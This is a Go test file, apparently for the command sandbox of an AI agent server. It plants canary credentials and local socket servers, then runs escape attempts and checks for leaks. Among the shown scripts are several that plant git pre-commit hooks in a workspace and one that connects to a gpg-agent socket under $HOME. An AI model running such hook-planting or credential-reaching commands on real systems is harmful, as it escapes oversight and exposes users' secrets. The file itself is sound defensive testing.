	for _, kv := range append(h.env, "DATA="+data, "OPENAI_API_KEY="+key, "APSERVER_TEST_PROVIDER_AUTH="+auth) {
		k, v, _ := strings.Cut(kv, "=")
		t.Setenv(k, v)
	}
	h.env = nil
}

// TestConcealedDataDirWorktree: a workspace beneath the concealed data
// dir (a run's worktree) is usable, while the rest of the data dir is not
// there.
func TestConcealedDataDirWorktree(t *testing.T) {
	base, err := os.MkdirTemp("/var/tmp", "apserver-sandbox-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	// The default data dir, under a toolchain directory the sandbox
	// grants: without Conceal it would be readable.
	home := filepath.Join(base, "home")
	data := filepath.Join(home, ".local", "share", "apserver")
	ws := filepath.Join(data, "worktrees", "run1")
	writeFiles(t, map[string]string{
		filepath.Join(data, "state.sqlite"): "CANARY-STORE",
		filepath.Join(ws, "file.txt"):       "hello\n",
	})
	sandbox.Conceal(data)
	env := []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + home}
	for _, mode := range []sandbox.Mode{sandbox.ReadOnly, sandbox.WorkspaceWrite} {
		t.Run(string(mode), func(t *testing.T) {
			p := sandbox.Policy{Mode: mode, WritableRoots: []string{ws}}
			if err := sandbox.Probe().Enforceable(p); err != nil {
				t.Skip(err)
			}
			script := `cat file.txt; cat ` + data + `/state.sqlite; ls ` + data + `; ls ` + data + `/worktrees`
			if mode == sandbox.WorkspaceWrite {
				script += `; echo new > new.txt && cat new.txt`
			}
			res, err := tools.Exec(context.Background(), tools.ExecRequest{Command: script, Dir: ws, Env: env, Sandbox: &p}, nil)
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(res.Output, "CANARY-STORE") || strings.Contains(res.Output, "state.sqlite\n") {
				t.Errorf("the data dir is visible: %q", res.Output)
			}
			want := "hello\n"
			if !strings.HasPrefix(res.Output, want) || mode == sandbox.WorkspaceWrite && !strings.HasSuffix(res.Output, "new\n") {
				t.Errorf("the worktree is not usable: %q", res.Output)
			}
		})
	}
}

// TestMissingGitDir: in a workspace that is not a repository a command
// cannot make one whose hooks the user's git would run: git init, a
// hand-made .git with a hook, and a .git symlink all fail, and the
// workspace is left without .git. Judged from outside: the user's own
// git, run afterwards, finds no repository there, and runs no hook. A
// repository in a subdirectory stays the command's to make.
func TestMissingGitDir(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	h := newHarness(t, sandbox.Policy{Mode: sandbox.WorkspaceWrite})
	hook := `printf '#!/bin/sh\ntouch "$OUT/hooked"\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`
	for _, script := range []string{
		`git init -q . ; mkdir -p .git/hooks; ` + hook,
		`git init -q --template=/nonexistent; ` + hook,
		`rmdir .git; mv .git gone; mkdir -p .git/hooks && ` + hook,
		`git init -q "$WS/mine" && mv mine/.git . ; ` + hook,
		`git init -q "$WS/mine" && rmdir .git; ln -s "$WS/mine/.git" .git; ` + hook,
		`git init -q --separate-git-dir "$WS/gd" . ; mkdir -p gd/hooks; ` + hook,
	} {
		h.seed(t)
		if err := os.RemoveAll(filepath.Join(h.ws, ".git")); err != nil {
			t.Fatal(err)
		}
		res := h.execute(t, script)
		if _, err := os.Lstat(filepath.Join(h.ws, ".git")); err == nil {
			t.Errorf("%q left a .git in the workspace (output %q)", script, res.Output)
		}
		// The user's git, outside the sandbox, finds no repository.
		git := exec.Command("git", "-c", "user.name=u", "-c", "user.email=u@u", "commit", "-q", "--allow-empty", "-m", "user")
		git.Dir = h.ws
		git.Env = append(os.Environ(), "GIT_CEILING_DIRECTORIES="+filepath.Dir(h.ws), "OUT="+h.out)
		if out, err := git.CombinedOutput(); err == nil {
			t.Errorf("%q made the workspace a repository: the user's commit worked (%s)", script, out)
		}
		if _, err := os.Stat(filepath.Join(h.out, "hooked")); err == nil {
			t.Errorf("%q planted a hook that the user's commit ran", script)
			os.Remove(filepath.Join(h.out, "hooked"))
		}
	}
	// The positive control: a repository in a subdirectory.
	h.seed(t)
	os.RemoveAll(filepath.Join(h.ws, ".git"))
	if res := h.execute(t, `git init -q sub && test -d sub/.git/hooks && echo made`); !strings.Contains(res.Output, "made") {
		t.Errorf("git init in a subdirectory failed: %q", res.Output)
	}
}

// TestGitdirFile checks a .git file (a worktree or submodule) whose
// gitdir lies in the writable root: that directory is read-only too.
func TestGitdirFile(t *testing.T) {
	h := newHarness(t, sandbox.Policy{Mode: sandbox.WorkspaceWrite})
	h.seed(t)
	if err := os.Rename(filepath.Join(h.ws, ".git"), filepath.Join(h.ws, "gitdir")); err != nil {
		t.Fatal(err)
	}
	writeFiles(t, map[string]string{filepath.Join(h.ws, ".git"): "gitdir: gitdir\n"})
	res := h.execute(t, `mkdir -p gitdir/hooks; echo pwn > gitdir/hooks/pre-commit; echo 'gitdir: elsewhere' > .git`)
	if _, err := os.Stat(filepath.Join(h.ws, "gitdir", "hooks", "pre-commit")); err == nil {
		t.Errorf("wrote a hook into the gitdir (output %q)", res.Output)
	}
	if b, _ := os.ReadFile(filepath.Join(h.ws, ".git")); string(b) != "gitdir: gitdir\n" {
		t.Errorf(".git file is now %q", b)
	}
}

// TestWritableGit checks the escape hatch: with WritableGit a sandboxed
// command can commit, and .apserver stays read-only all the same.
func TestWritableGit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	h := newHarness(t, sandbox.Policy{Mode: sandbox.WorkspaceWrite, WritableGit: true})
	h.mustWork(t, control{name: "git-commit", script: `git add file.txt && git -c user.name=t -c user.email=t@t commit -qm m && git log --format=%s`, want: "m"})
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == "apserver-config-write" })
	h.mustNotEscape(t, attacks[i])
}

// harness is one sandbox setup: directories, canaries, servers and the
// victim process, shared by the cases run with it (one at a time).
type harness struct {
	policy              sandbox.Policy
	base, ws, out, home string
	env                 []string
	vars                map[string]string
	secrets             []string
	// systemPaths are watched outside the base directory: /etc/hostname
	// and, in various directories, a name that must not appear.
	systemPaths []string
	tcp, udp    atomic.Int64 // clients seen by the servers
	unix        atomic.Int64
	unixPath    atomic.Int64 // clients of the pathname socket servers
	victim      *exec.Cmd
}

func newHarness(t *testing.T, p sandbox.Policy) *harness {
	t.Helper()
	if err := sandbox.Probe().Enforceable(p); err != nil {
		t.Skip(err)
	}
	base, err := os.MkdirTemp("/var/tmp", "apserver-sandbox-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(base) })
	h := &harness{
		policy: p,
		base:   base,
		ws:     filepath.Join(base, "ws"),
		out:    filepath.Join(base, "outside"),
		home:   filepath.Join(base, "home"),
	}
	id := strings.TrimPrefix(filepath.Base(base), "apserver-sandbox-")
	esc := "apserver-escape-" + id
	h.vars = map[string]string{"WS": h.ws, "OUT": h.out, "HOME": h.home, "ESC": esc, "TOKEN": "CANARY-NET-" + id}
	h.secrets = []string{"CANARY-SSH-" + id, "CANARY-AWS-" + id, "CANARY-HISTORY-" + id, "CANARY-ENV-" + id, h.vars["TOKEN"]}
	extra := filepath.Join(base, "extra-ro")
	h.vars["EXTRA"] = extra
	h.policy.WritableRoots = []string{h.ws}
	h.policy.ReadableRoots = []string{extra}
	writeFiles(t, map[string]string{
		filepath.Join(h.out, "secret.txt"):           "outside secret\n",
		filepath.Join(h.out, "leak.txt"):             "",
		filepath.Join(h.home, ".ssh", "id_rsa"):      "-----BEGIN OPENSSH PRIVATE KEY-----\n" + h.secrets[0] + "\n",
		filepath.Join(h.home, ".aws", "credentials"): "[default]\naws_secret_access_key = " + h.secrets[1] + "\n",
		filepath.Join(h.home, ".bash_history"):       "export TOKEN=" + h.secrets[2] + "\n",
		filepath.Join(h.home, ".bashrc"):             "# rc\n",
		filepath.Join(h.home, "go", "marker"):        "TOOLCHAIN-OK\n",
		filepath.Join(extra, "readme"):               "EXTRA-RO-OK\n",
	})
	h.systemPaths = []string{"/etc/hostname"}
	for _, dir := range []string{"/", "/etc", "/usr/local", "/usr/local/bin", "/opt", "/var/lib", "/var/tmp", "/tmp", "/root", "/dev/shm"} {
		h.systemPaths = append(h.systemPaths, filepath.Join(dir, esc))
	}
	t.Cleanup(func() {
		for _, p := range h.systemPaths[1:] {
			os.RemoveAll(p)
		}
	})

	h.startServers(t)
	h.startUnixServers(t)
	h.vars["ORPHAN"] = "apserver-orphan-" + id
	// The victim starts before the leaked descriptor is opened, so only
	// commands inherit it.
	h.victim = exec.Command("sleep", "1000")
	h.victim.Dir = h.home
	h.victim.Env = []string{"CANARY=" + h.secrets[3]}
	if err := h.victim.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = h.victim.Process.Kill()
		_ = h.victim.Wait()
	})
	h.vars["VICTIM"] = strconv.Itoa(h.victim.Process.Pid)
	// A writable descriptor for an outside file, without close-on-exec.
	leak, err := syscall.Open(filepath.Join(h.out, "leak.txt"), syscall.O_WRONLY|syscall.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { syscall.Close(leak) })
	h.vars["LEAKFD"] = strconv.Itoa(leak)
	// Some cases are only worth trying where the thing works outside the
	// sandbox.
	h.vars["DISK"] = rootDisk()
	h.vars["HOST_IP"] = hostIP()
	h.vars["KMSG"] = ifOpens("/dev/kmsg", os.O_RDONLY)
	h.vars["SYSRQ"] = ifOpens("/proc/sysrq-trigger", os.O_WRONLY)
	// A resolver that answers (even "no such host") is reachable.
	var dnsErr *net.DNSError
	if _, err := net.LookupHost("example.com"); err == nil || errors.As(err, &dnsErr) && dnsErr.IsNotFound {
		h.vars["DNS"] = "1"
	}

	path := "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
	if gobin, err := exec.LookPath("go"); err == nil {
		path = filepath.Dir(gobin) + ":" + path
	}
	h.env = []string{"PATH=" + path, "LANG=C"}
	for k, v := range h.vars {
		if k != "TOKEN" {
			h.env = append(h.env, k+"="+v)
		}
	}
	return h
}

func writeFiles(t *testing.T, files map[string]string) {
	t.Helper()
	for name, content := range files {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// startServers starts a TCP server (all addresses), a UDP echo server and
// an abstract unix socket server that answer every client with the token.
func (h *harness) startServers(t *testing.T) {
	t.Helper()
	token := h.vars["TOKEN"] // the server goroutines must not read h.vars
	reply := []byte("HTTP/1.0 200 OK\r\nContent-Length: " + strconv.Itoa(len(token)+1) + "\r\n\r\n" + token + "\n")
	serve := func(l net.Listener, seen *atomic.Int64) {
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				seen.Add(1)
				c.Write(reply)
				c.Close()
			}
		}()
	}
	tcp, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	serve(tcp, &h.tcp)
	h.vars["TCP_PORT"] = strconv.Itoa(tcp.Addr().(*net.TCPAddr).Port)
	if l6, err := net.Listen("tcp6", "[::1]:0"); err == nil {
		l6.Close()
		h.vars["IPV6"] = "1"
	}

	abstract := "apserver-sandbox-" + h.vars["ESC"]
	ul, err := net.Listen("unix", "@"+abstract)
	if err != nil {
		t.Fatal(err)
	}
	serve(ul, &h.unix)
	h.vars["ABSTRACT"] = abstract

	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { udp.Close() })
	go func() {
		buf := make([]byte, 512)
		for {
			_, from, err := udp.ReadFrom(buf)
			if err != nil {
				return
			}
			h.udp.Add(1)
			udp.WriteTo([]byte(token), from)
		}
	}()
	h.vars["UDP_PORT"] = strconv.Itoa(udp.LocalAddr().(*net.UDPAddr).Port)
}

// startUnixServers listens on pathname unix sockets where a real one
// could be: the host's /tmp, /run, a directory outside the workspace, a
// readable root and /dev/shm (stream), and /run (datagram). Each counts
// its clients in h.unixPath.
func (h *harness) startUnixServers(t *testing.T) {
	t.Helper()
	id := h.vars["ESC"]
	dirs := map[string]string{
		"SOCK_TMP":   filepath.Join("/tmp", id),
		"SOCK_RUN":   filepath.Join("/run", id),
		"SOCK_OUT":   h.out,
		"SOCK_EXTRA": h.vars["EXTRA"],
		"SOCK_SHM":   filepath.Join("/dev/shm", id),
	}
	for v, dir := range dirs {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if dir != h.out && dir != h.vars["EXTRA"] {
			t.Cleanup(func() { os.RemoveAll(dir) })
		}
		path := filepath.Join(dir, "agent.sock")
		l, err := net.Listen("unix", path)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				h.unixPath.Add(1)
				c.Write([]byte(h.secrets[4] + "\n"))
				c.Close()
			}
		}()
		h.vars[v] = path
	}
	dgram := filepath.Join("/run", id, "dgram.sock")
	pc, err := net.ListenPacket("unixgram", dgram)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { pc.Close() })
	go func() {
		buf := make([]byte, 64)
		for {
			if _, _, err := pc.ReadFrom(buf); err != nil {
				return
			}
			h.unixPath.Add(1)
		}
	}()
	h.vars["DGRAM_RUN"] = dgram
}

// orphans returns the pids of processes whose command line has marker
// (started by the orphan attacks), and kills them.
func orphans(marker string) []int {
	pids := proctest.Marked(marker)
	for _, pid := range pids {
		syscall.Kill(pid, syscall.SIGKILL)
	}
	return pids
}

// ifOpens returns name if it can be opened with flag, else "".
func ifOpens(name string, flag int) string {
	f, err := os.OpenFile(name, flag, 0)
	if err != nil {
		return ""
	}
	f.Close()
	return name
}

// rootDisk returns the block device holding / if it can be read, or "".
func rootDisk() string {
	var st syscall.Stat_t
	if err := syscall.Stat("/", &st); err != nil {
		return ""
	}
	uevent, err := os.ReadFile(fmt.Sprintf("/sys/dev/block/%d:%d/uevent", unix.Major(st.Dev), unix.Minor(st.Dev)))
	if err != nil {
		return ""
	}
	for line := range strings.Lines(string(uevent)) {
		if name, ok := strings.CutPrefix(strings.TrimSpace(line), "DEVNAME="); ok {
			return ifOpens("/dev/"+name, os.O_RDONLY)
		}
	}
	return ""
}

// hostIP returns a non-loopback IPv4 address of this machine, or "".
func hostIP() string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && !ipn.IP.IsLoopback() && ipn.IP.To4() != nil {
			return ipn.IP.String()
		}
	}
	return ""
}

// seed recreates the workspace: a file, a symlink to the outside dir (as
// a cloned repository might ship) and a git repository.
func (h *harness) seed(t *testing.T) {
	t.Helper()
	if err := os.RemoveAll(h.ws); err != nil {
		t.Fatal(err)
	}
	writeFiles(t, map[string]string{
		filepath.Join(h.ws, "file.txt"):                 "hello\n",
		filepath.Join(h.ws, ".apserver", "config.toml"): "# workspace config\n",
	})
	if err := os.Symlink(h.out, filepath.Join(h.ws, "outside-link")); err != nil {
		t.Fatal(err)
	}
	if _, err := exec.LookPath("git"); err == nil {
		if out, err := exec.Command("git", "init", "-q", h.ws).CombinedOutput(); err != nil {
			t.Fatalf("git init: %v: %s", err, out)
		}
	}
}

func (h *harness) skipIfMissing(t *testing.T, needs []string, needsVar string) {
	t.Helper()
	for _, n := range needs {
		if _, err := exec.LookPath(n); err != nil {
			t.Skipf("no %s", n)
		}
	}
	if needsVar != "" && h.vars[needsVar] == "" {
		t.Skipf("no %s here", needsVar)
	}
}

func (h *harness) execute(t *testing.T, script string) tools.ExecResult {
	t.Helper()
	res, err := tools.Exec(context.Background(), tools.ExecRequest{
		Command: script,
		Dir:     h.ws,
		Env:     h.env,
		Timeout: time.Minute, // a hang guard, not an expectation
		Sandbox: sandboxOrNil(h.policy),
	}, nil)
	if err != nil {
		t.Fatalf("Exec(%q): %v", script, err)
	}
	if res.TimedOut {
		t.Fatalf("Exec(%q) timed out: %s", script, res.Output)
	}
	return res
}

// run runs an attack and returns the evidence of escape it left.
func (h *harness) run(t *testing.T, a attack) []string {
	t.Helper()
	h.skipIfMissing(t, a.needs, a.needsVar)
	h.seed(t)
	before := h.snapshot(t)
	tcp, udp, unix, unixPath := h.tcp.Load(), h.udp.Load(), h.unix.Load(), h.unixPath.Load()
	res := h.execute(t, a.script)

	var evidence []string
	if strings.Contains(res.Output, escapedMarker) {
		evidence = append(evidence, "the script reports success")
	}
	for _, s := range h.secrets {
		if strings.Contains(res.Output, s) {
			evidence = append(evidence, "output has "+s)
		}
	}
	evidence = append(evidence, diffSnapshots(before, h.snapshot(t))...)
	if h.policy.Mode != sandbox.ReadOnly {
		evidence = append(evidence, h.secretsIn(t, h.ws)...)
	}
	if n := h.tcp.Load() - tcp; n != 0 {
		evidence = append(evidence, fmt.Sprintf("TCP server saw %d clients", n))
	}
	if n := h.udp.Load() - udp; n != 0 {
		evidence = append(evidence, fmt.Sprintf("UDP server saw %d datagrams", n))
	}
	if n := h.unix.Load() - unix; n != 0 {
		evidence = append(evidence, fmt.Sprintf("abstract socket server saw %d clients", n))
	}
	if n := h.unixPath.Load() - unixPath; n != 0 {
		evidence = append(evidence, fmt.Sprintf("pathname socket servers saw %d clients", n))
	}
	// Exec has returned: nothing the command started may be alive.
	if pids := orphans(h.vars["ORPHAN"]); len(pids) > 0 {
		evidence = append(evidence, fmt.Sprintf("processes %v outlived the command", pids))
	}
	if st := procState(h.victim.Process.Pid); st != "S" && st != "R" && st != "D" {
		evidence = append(evidence, fmt.Sprintf("victim process state %q", st))
	}
	return evidence
}

func (h *harness) mustNotEscape(t *testing.T, a attack) {
	t.Helper()
	if evidence := h.run(t, a); len(evidence) > 0 {
		t.Errorf("%s in %s escaped the sandbox: %s", a.name, h.policy.Mode, strings.Join(evidence, "; "))
	}
}

func (h *harness) mustWork(t *testing.T, c control) {
	t.Helper()
	h.skipIfMissing(t, c.needs, "")
	h.seed(t)
	res := h.execute(t, c.script)
	if res.ExitCode != 0 || !strings.Contains(res.Output, c.want) {
		t.Errorf("%s in %s: exit %d, output %q; want exit 0 and %q", c.name, h.policy.Mode, res.ExitCode, res.Output, c.want)
	}
}

// fileState is what the snapshot keeps of a file: enough to see changes
// to content and metadata.
type fileState struct {
	mode, uid, gid uint32
	size           int64
	mtime, ctime   syscall.Timespec
	link           string
	sum            [sha256.Size]byte
}

func stateOf(path string) (fileState, bool) {
	var st syscall.Stat_t
	if err := syscall.Lstat(path, &st); err != nil {
		return fileState{}, false
	}
	s := fileState{mode: st.Mode, uid: st.Uid, gid: st.Gid, size: st.Size, mtime: st.Mtim, ctime: st.Ctim}
	switch st.Mode & syscall.S_IFMT {
	case syscall.S_IFLNK:
		s.link, _ = os.Readlink(path)
	case syscall.S_IFREG:
		b, _ := os.ReadFile(path)
		s.sum = sha256.Sum256(b)
	}
	return s, true
}

// snapshot records everything under the base directory (but the
// workspace, unless read-only) and the system paths.
func (h *harness) snapshot(t *testing.T) map[string]fileState {
	t.Helper()
	snap := map[string]fileState{}
	err := filepath.WalkDir(h.base, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		// The workspace is watched in read-only mode; in the others only
		// its .git and .apserver, which must stay read-only.
		if h.policy.Mode != sandbox.ReadOnly && (path == h.ws || strings.HasPrefix(path, h.ws+"/")) {
			rel := strings.TrimPrefix(path, h.ws)
			watched := false
			for _, d := range []string{"/.git", "/.apserver"} {
				watched = watched || rel == d || strings.HasPrefix(rel, d+"/")
			}
			if path == h.ws {
				return nil
			}
			if !watched {
				if d.IsDir() {
					return filepath.SkipDir
				}
				return nil
			}
		}
		if s, ok := stateOf(path); ok {
			snap[path] = s
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range h.systemPaths {
		if s, ok := stateOf(p); ok {
			snap[p] = s
		}
	}
	return snap
}

func diffSnapshots(before, after map[string]fileState) []string {
	var diffs []string
	for p, b := range before {
		if a, ok := after[p]; !ok {
			diffs = append(diffs, p+" removed")
		} else if a != b {
			diffs = append(diffs, p+" changed")
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok {
			diffs = append(diffs, p+" created")
		}
	}
	slices.Sort(diffs)
	return diffs
}

// secretsIn reports canaries found in regular files under dir.
func (h *harness) secretsIn(t *testing.T, dir string) []string {
	t.Helper()
	var found []string
	err := filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		for _, s := range h.secrets {
			if bytes.Contains(b, []byte(s)) {
				found = append(found, path+" has "+s)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// procState returns the state letter of pid from /proc, or "" if there is
// none.
func procState(pid int) string { return proctest.State(pid) }

// TestHomeSocketHidden: a unix socket under $HOME (gpg-agent, rootless
// Docker, an editor's IPC socket) is reachable by path without reading the
// directory, which Landlock does not stop; the sandbox hides $HOME. The
// listener counts clients, so the verdict comes from outside; without a
// sandbox the same connect reaches it (the positive control).
func TestHomeSocketHidden(t *testing.T) {
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skip("needs python3")
	}
	realHome, err := os.UserHomeDir()
	if err != nil || realHome == "/" {
		t.Skip("no home directory")
	}
	// Under the real home, not /tmp or /var/tmp, which are hidden anyway.
	home, err := os.MkdirTemp(realHome, ".apserver-sandbox-home-")
	if err != nil {
		t.Skip(err)
	}
	t.Cleanup(func() { os.RemoveAll(home) })
	ws := filepath.Join(home, "ws") // a workspace under $HOME stays usable
	if err := os.MkdirAll(filepath.Join(home, ".gnupg"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(ws, 0o755); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(home, ".gnupg", "S.gpg-agent")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var accepted atomic.Int64
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	// The client says it is about to connect, so a run where python never
	// started (not readable in the sandbox) cannot pass for a refusal.
	py, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("needs python3")
	}
	py, _ = filepath.EvalSymlinks(py)
	if strings.Contains(py, "/shims/") {
		// pyenv's shim runs python from under the real home, which the
		// sandbox hides; the system one is enough here.
		py = "/usr/bin/python3"
	}
	script := py + ` -c 'import socket,sys; print("connecting", flush=True); s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.recv(1)' ` + sock + `; echo > done`
	env := []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=" + home, "LANG=C"}
	for _, tc := range []struct {
		name string
		p    sandbox.Policy
		want int64 // connections the listener sees
	}{
		{"no sandbox", sandbox.Policy{Mode: sandbox.FullAccess}, 1},
		{"workspace-write", sandbox.Policy{Mode: sandbox.WorkspaceWrite, WritableRoots: []string{ws}, AllowTmp: true}, 0},
		{"read-only", sandbox.Policy{Mode: sandbox.ReadOnly}, 0},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.p.Mode != sandbox.FullAccess {
				if err := sandbox.Probe().Enforceable(tc.p); err != nil {
					t.Skip(err)
				}
			}
			before := accepted.Load()
			res, err := tools.Exec(context.Background(), tools.ExecRequest{Command: script, Dir: ws, Env: env, Sandbox: sandboxOrNil(tc.p)}, nil)
			if err != nil {
				t.Fatal(err)
			}
			// The listener counts before the client's recv returns, so the
			// count is settled once the command is over.
			if !strings.Contains(res.Output, "connecting") {
				t.Fatalf("%s: the client never ran; output:\n%s", tc.name, res.Output)
			}
			if got := accepted.Load() - before; got != tc.want {
				t.Errorf("%s: the socket under $HOME saw %d connections, want %d; output:\n%s", tc.name, got, tc.want, res.Output)
			}
			if tc.p.Mode == sandbox.WorkspaceWrite {
				if _, err := os.Stat(filepath.Join(ws, "done")); err != nil {
					t.Errorf("a workspace under $HOME is not writable in the sandbox: %v; output:\n%s", err, res.Output)
				}
			}
		})
	}
}

func sandboxOrNil(p sandbox.Policy) *sandbox.Policy {
	if p.Mode == sandbox.FullAccess {
		return nil
	}
	return &p
}
